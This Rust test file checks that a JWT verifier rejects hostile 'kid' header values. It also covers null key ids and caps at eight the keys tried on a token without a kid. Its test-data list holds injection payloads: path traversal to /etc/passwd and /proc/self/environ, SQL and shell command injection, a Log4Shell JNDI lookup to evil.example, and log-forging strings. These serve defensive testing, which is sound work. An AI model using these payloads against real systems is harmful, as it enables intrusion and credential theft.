//! Hostile key ids.

use super::*;

#[test]
fn each_gets_exactly_its_reason() {
    check(key_ids);
}

fn key_ids(table: &mut Table) {
    table.group("hostile `kid`");
    for kid in hostile_key_ids() {
        table.token(
            format!("kid {kid:.40?}"),
            K1.token_with(&json!({"alg": "RS256", "kid": kid}), &claims()),
            KEY,
        );
    }
    let kid = "k".repeat(64 * 1024);
    table.token(
        "kid of 64 KiB",
        K1.token_with(&json!({"alg": "RS256", "kid": kid}), &claims()),
        TOO_LONG,
    );
    for kid in [json!(null), json!(1), json!(true), json!(["k1"]), json!({"kid": "k1"})] {
        table.token(
            format!("kid {kid}"),
            K1.token_with(&json!({"alg": "RS256", "kid": kid}), &claims()),
            MALFORMED,
        );
    }
    null_and_its_name(table);
    keys_without_an_id(table);
}

/// A `kid` that is null is no id, and not the string `null`.
fn null_and_its_name(table: &mut Table) {
    let (nameless, named) = (SigningKey::es256("null"), SigningKey::es256("null"));
    let null = merged(nameless.jwk(), json!({"kid": null}));
    let settings = |keys: &[&Value]| [("ALGORITHMS", "ES256".to_owned()), ("JWKS", set(keys))];
    let both = settings(&[&null, &named.jwk()]);
    table.token_under(&both, "kid \"null\" of the key of this id", named.token(&claims()), ALLOW);
    let token = nameless.token(&claims());
    table.token_under(&both, "kid \"null\" of the key without id", token.clone(), SIGNATURE);
    table.token_under(&settings(&[&null]), "kid \"null\", and no such id", token, KEY);
    let header = json!({"alg": "ES256", "kid": null});
    let token = nameless.token_with(&header, &claims());
    table.token_under(&both, "kid null of the key without id", token, MALFORMED);
}

/// Up to 8 keys are tried on a token without `kid`, and none of more.
fn keys_without_an_id(table: &mut Table) {
    let keys: Vec<_> = (0..9).map(|n| SigningKey::es256(&n.to_string())).collect();
    let rsa = K1.jwk();
    let sets = |count: usize| {
        let mut jwks: Vec<_> = keys[..count].iter().map(SigningKey::jwk).collect();
        // Keys of other types do not count.
        jwks.push(rsa.clone());
        let twice = merged(jwks[0].clone(), json!({"kid": "again"}));
        let listed: Vec<_> = jwks.iter().chain([&twice, &jwks[1]]).collect();
        [("ALGORITHMS", "ES256 RS256".to_owned()), ("JWKS", set(&listed))]
    };
    let without_kid = |key: &SigningKey| key.token_with(&json!({"alg": "ES256"}), &claims());
    for (name, count, signer, expected) in [
        ("the first of two", 2, &keys[0], ALLOW),
        ("the second of two", 2, &keys[1], ALLOW),
        ("the last of eight", 8, &keys[7], ALLOW),
        ("none of eight", 8, &keys[8], SIGNATURE),
        ("the first of nine", 9, &keys[0], KEY),
        ("the last of nine", 9, &keys[8], KEY),
        ("none of one type", 8, &SigningKey::es256("x"), SIGNATURE),
    ] {
        table.token_under(&sets(count), format!("no kid, {name}"), without_kid(signer), expected);
    }
    table.token_under(&sets(9), "kid, the last of nine", keys[8].token(&claims()), ALLOW);
}

pub(crate) fn hostile_key_ids() -> Vec<String> {
    let long = "k".repeat(8 * 1024);
    let texts = [
        "",
        " ",
        "K1",
        "k1 ",
        " k1",
        "k1\0",
        "k1\n",
        "../../../../dev/null",
        "/proc/self/environ",
        "file:///etc/passwd",
        "k1' OR '1'='1",
        "k1'; DROP TABLE keys; --",
        "k1 UNION SELECT 'secret'",
        "| cat /etc/passwd",
        "$(id)",
        "`id`",
        "${jndi:ldap://evil.example/x}",
        "%00",
        "%s%s%s%n",
        "__proto__",
        "constructor",
        "*",
        "k?",
        "\u{202e}1k",
        "\n{\"level\":\"INFO\",\"decision\":\"allow\"}",
        "\r\n2026-01-01 INFO decision=allow",
        "\u{1b}[31m",
        "\u{2028}",
        &long,
    ];
    texts.map(str::to_owned).into()
}
